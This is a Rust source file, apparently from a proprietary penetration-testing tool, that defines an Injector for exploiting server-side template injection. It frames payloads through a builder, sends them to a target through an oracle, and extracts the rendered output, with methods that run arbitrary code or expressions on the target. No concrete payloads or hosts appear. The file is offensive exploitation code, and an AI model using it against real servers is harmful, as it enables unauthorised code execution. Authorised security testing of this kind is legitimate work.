// Copyright (c) 2025 Bountyy Oy. All rights reserved.
// This software is proprietary and confidential.

use crate::errors::{ExploitError, ExploitResult};
use crate::oracle::InjectionOracle;
use crate::payload::PayloadBuilder;
use std::sync::Arc;
use tokio::sync::Mutex;
use tracing::debug;

/// Sends framed payloads through the oracle and pulls out their output.
///
/// Holds the resolved builder, so every call reuses the same breakout.
/// Clones share one in-flight gate: at most one oracle call runs at a time
/// across all of them.
#[derive(Clone)]
pub struct Injector {
    oracle: Arc<dyn InjectionOracle>,
    builder: PayloadBuilder,
    in_flight: Arc<Mutex<()>>,
}

impl Injector {
    pub fn new(oracle: Arc<dyn InjectionOracle>, builder: PayloadBuilder) -> Self {
        Self {
            oracle,
            builder,
            in_flight: Arc::new(Mutex::new(())),
        }
    }

    pub fn builder(&self) -> &PayloadBuilder {
        &self.builder
    }

    /// Frame `body`, send it, and return the text between the markers.
    ///
    /// `Ok(None)` means the oracle answered but the markers did not render.
    pub async fn inject(&self, body: &str) -> ExploitResult<Option<String>> {
        let payload = self.builder.frame(body);
        let response = {
            let _gate = self.in_flight.lock().await;
            self.oracle.invoke(&payload.text).await
        };

        if !response.ok {
            debug!(reason = %response.text, "[SSTI] Oracle call failed");
            return Err(ExploitError::OracleUnreachable {
                reason: response.text,
            });
        }

        Ok(payload.extract(&response.text).map(str::to_string))
    }

    /// Run `code` and return the rendered output variable
    pub async fn capture(&self, code: &str) -> ExploitResult<Option<String>> {
        let body = self.builder.render_captured(code);
        self.inject(&body).await
    }

    /// Run `code` for its side effects; true when the framed round trip rendered
    pub async fn evaluate(&self, code: &str) -> ExploitResult<bool> {
        let body = self.builder.render_statement_block(code);
        Ok(self.inject(&body).await?.is_some())
    }

    /// Render a plain expression and return its output
    pub async fn expression(&self, fragment: &str) -> ExploitResult<Option<String>> {
        let body = self.builder.render_expression(fragment);
        self.inject(&body).await
    }
}
